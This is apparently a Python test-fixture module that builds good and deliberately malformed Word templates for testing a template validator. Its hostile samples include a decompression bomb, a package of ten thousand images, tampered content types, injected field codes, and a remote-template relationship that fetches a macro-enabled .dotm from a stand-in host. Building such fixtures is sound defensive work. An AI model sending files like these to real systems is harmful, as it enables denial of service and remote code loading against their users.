"""Word templates that somebody might send, good and bad: a small one with something done to it."""

import io
import zipfile
from functools import cache

import docx

from periodic.documents.exports.word import draw
from periodic.documents.rules.placeholders import REQUIRED
from periodic.documents.rules.starter import starter

DOCUMENT = "word/document.xml"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


@cache
def good():
    """Return the template that everybody begins with."""
    return draw(starter())


@cache
def small():
    """Return a template with what must be there, one number, and no more: it is filled quickly."""
    document = docx.Document()
    for name in (*REQUIRED, "so_covered"):
        document.add_paragraph(f"{{{{ {name} }}}}")
    document.sections[0].header.paragraphs[0].add_run("Trang đầu")
    target = io.BytesIO()
    document.save(target)
    return target.getvalue()


def with_parts(change, data=None):
    """Return a template whose parts are what `change` makes of them; None takes one away."""
    target = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data or small())) as old:
        parts = change({name: old.read(name) for name in old.namelist()})
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for name, body in parts.items():
            new.writestr(name, body)
    return target.getvalue()


def with_part(name, body):
    """Return a template that holds one part more, or another one of that name."""
    return with_parts(lambda parts: {**parts, name: body})


def saying(words):
    """Return a template with one more paragraph at its beginning."""
    return with_xml(f"<w:p><w:r><w:t>{words}</w:t></w:r></w:p>")


def with_xml(xml):
    """Return a template with some XML at the beginning of its body."""

    def change(parts):
        body = parts[DOCUMENT].replace(b"<w:body>", b"<w:body>" + xml.encode(), 1)
        assert body != parts[DOCUMENT]
        return {**parts, DOCUMENT: body}

    return with_parts(change)


def related(kind, target, *, external=False):
    """Return a template that leads to something."""
    mode = ' TargetMode="External"' if external else ""
    line = f'<Relationship Id="rId99" Type="{RELATION}/{kind}" Target="{target}"{mode}/>'

    def change(parts):
        name = "word/_rels/document.xml.rels"
        return {
            **parts,
            name: parts[name].replace(b"</Relationships>", f"{line}</Relationships>".encode()),
        }

    return with_parts(change)


def typed(old, new):
    """Return a template whose list of types says something else."""

    def change(parts):
        name = "[Content_Types].xml"
        assert old in parts[name]
        return {**parts, name: parts[name].replace(old, new)}

    return with_parts(change)


def field(words):
    """Return a template with a field."""
    return with_xml(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f"<w:r><w:instrText>{words}</w:instrText></w:r>"
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def bomb():
    """Return a template that is small, and large once it is opened."""
    return with_part("word/media/big.xml", b"<a>" + b" " * (30 << 20) + b"</a>")


# Of the settings: the template that the file asks another machine for.
REMOTE_TEMPLATE = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    f'<Relationship Id="rId1" Type="{RELATION}/attachedTemplate" '
    'Target="https://a.example/a.dotm" TargetMode="External"/></Relationships>'
).encode()


def drawing(xml):
    """Return a template with a drawing as older programs wrote them."""
    spaces = (
        'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
    )
    return with_xml(f"<w:p><w:r><w:pict><v:shape {spaces}>{xml}</v:shape></w:pict></w:r></w:p>")


def pictures():
    """Return a template with ten thousand pictures."""
    picture = b"\x89PNG\r\n\x1a\n" + bytes(30)
    return with_parts(
        lambda parts: {**parts, **{f"word/media/{at}.png": picture for at in range(10_000)}}
    )
